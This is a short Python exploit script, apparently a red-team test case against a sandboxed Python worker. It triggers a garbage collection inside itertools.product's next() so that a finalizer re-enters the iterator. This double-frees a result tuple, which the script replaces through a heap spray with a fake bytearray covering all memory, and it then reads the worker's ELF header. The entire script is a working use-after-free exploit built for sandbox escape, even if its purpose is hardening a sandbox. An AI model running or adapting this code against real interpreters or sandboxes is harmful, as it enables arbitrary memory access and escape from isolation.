# technique: a garbage collection inside itertools.product's next() (its result-tuple allocation) runs a cyclic object's __del__, which calls next() on the same product: the outer call then releases the old result a second time, freeing a tuple the caller holds; a bytearray buffer reclaims it as a fake bytearray over all memory (red-team pass 71; collections now run between bytecodes only)
# expect: any
import itertools, struct
p = itertools.product(range(2), repeat=25)   # result tuple: 16 (GC head) + 24 + 25*8 = 240-byte block
keep = []
fired = []
class D:
    def __del__(self):
        if fired: return
        fired.append(len(keep))
        fired.append(next(p))   # re-enters product_next while it copies the old result
def mk():
    a = D(); b = D(); a.o = b; b.o = a   # cyclic garbage: only a collection finalizes it
mk()
for i in range(2000):
    keep.append(next(p))        # the only GC allocation in the loop: the collection runs inside product_next
    if fired: break
k = fired[0] - 1                # keep[k] was released twice: its block is free
fake = struct.pack('<QQqqQQq', 1 << 40, 0x1001d00, 1 << 62, 1 << 62, 0, 0, 0)  # &PyByteArray_Type (nm safepy-worker)
payload = b'\0' * 16 + fake
payload += b'\0' * (239 - len(payload))
spray = [bytearray(payload) for _ in range(64)]
m = keep[k]
print(type(m).__name__, len(m) == 1 << 62)
print(bytes(m[0x400000:0x400004]))   # the worker's ELF header
